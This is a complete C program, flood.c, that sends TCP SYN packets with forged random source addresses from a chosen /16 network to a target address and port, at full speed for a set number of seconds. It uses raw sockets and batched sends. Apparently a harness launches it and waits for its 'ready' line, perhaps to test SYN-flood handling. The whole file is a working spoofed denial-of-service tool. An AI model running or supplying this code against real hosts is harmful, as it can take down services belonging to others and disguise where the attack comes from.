/*
 * flood.c - TCP SYN segments from random addresses of a /16, as fast as they go, for so many seconds at most.
 *
 *     flood NETWORK ADDRESS PORT SECONDS
 *
 * Says "ready" when it begins. Ends with the program that has started it.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64 };

struct syn {
    struct iphdr ip;
    struct tcphdr tcp;
} __attribute__((packed));

static uint64_t state = 88172645463325252u;

static uint64_t next_random(void)
{
    state ^= state << 13;
    state ^= state >> 7;
    return state ^= state << 17;
}

static uint32_t sum_words(uint32_t sum, const void *data, uint32_t len)
{
    const uint8_t *bytes = data;
    for (uint32_t i = 0; i < len; i += 2)
        sum += (uint32_t)(bytes[i] << 8 | bytes[i + 1]);
    return sum;
}

static uint16_t fold(uint32_t sum)
{
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

static void forge(struct syn *syn, uint32_t network)
{
    uint64_t random = next_random();
    syn->ip.saddr = htonl((network & 0xffff0000) | (uint32_t)(random & 0xffff));
    syn->tcp.source = htons((uint16_t)(1024 + (random >> 16) % 64000));
    syn->tcp.seq = htonl((uint32_t)(random >> 32));
    syn->ip.check = 0; /* the kernel writes it */
    syn->tcp.check = 0;
    uint32_t sum = sum_words(0, &syn->ip.saddr, 8) + IPPROTO_TCP + sizeof syn->tcp;
    syn->tcp.check = fold(sum_words(sum, &syn->tcp, sizeof syn->tcp));
}

int main(int argc, char **argv)
{
    static struct syn syns[BATCH];
    static struct mmsghdr batch[BATCH];
    struct iovec parts[BATCH];
    struct in_addr network, target;
    if (argc != 5 || inet_pton(AF_INET, argv[1], &network) != 1 || inet_pton(AF_INET, argv[2], &target) != 1) {
        fprintf(stderr, "flood: NETWORK ADDRESS PORT SECONDS\n");
        return 2;
    }
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    if (fd < 0) {
        perror("flood: a raw socket");
        return 1;
    }
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = target};
    for (int i = 0; i < BATCH; i++) {
        syns[i].ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .daddr = target.s_addr};
        syns[i].ip.tot_len = htons(sizeof *syns);
        syns[i].tcp = (struct tcphdr){.dest = htons((uint16_t)atoi(argv[3])), .doff = 5, .syn = 1, .window = htons(64240)};
        parts[i] = (struct iovec){&syns[i], sizeof syns[i]};
        batch[i].msg_hdr = (struct msghdr){.msg_iov = &parts[i], .msg_iovlen = 1, .msg_name = &to, .msg_namelen = sizeof to};
    }
    printf("ready\n");
    fflush(stdout);
    for (time_t end = time(NULL) + atoi(argv[4]); time(NULL) < end;) {
        for (int i = 0; i < BATCH; i++)
            forge(&syns[i], ntohl(network.s_addr));
        sendmmsg(fd, batch, BATCH, 0); /* what does not go is lost: it is a flood */
    }
    return 0;
}
